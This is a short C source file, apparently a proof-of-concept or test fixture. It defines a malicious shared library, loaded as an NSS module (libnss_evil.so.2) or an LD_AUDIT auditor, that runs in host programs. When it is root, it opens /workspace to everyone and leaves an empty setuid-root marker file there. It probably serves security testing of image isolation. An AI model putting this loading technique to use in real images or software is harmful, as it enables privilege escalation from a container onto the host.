/* A library that an image would have loaded into the host's programs: where that makes it root, it leaves a set-user-id file of root's. */
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define WORKSPACE "/workspace"

__attribute__((constructor)) static void attack(void)
{
    struct stat owner;
    if (geteuid() != 0 || stat(WORKSPACE, &owner) != 0)
        return;
    if (fork() == 0)
        _exit(setgid(owner.st_gid) | setuid(owner.st_uid) | chmod(WORKSPACE, 0777));
    wait(NULL);
    int file = open(WORKSPACE "/of-root", O_CREAT | O_WRONLY, 0755);
    if (file >= 0 && fchmod(file, 04755) == 0)
        close(file);
}

/* As a service of the name service switch (libnss_evil.so.2) and as an auditor (LD_AUDIT). */
unsigned la_version(unsigned version)
{
    attack();
    return version;
}
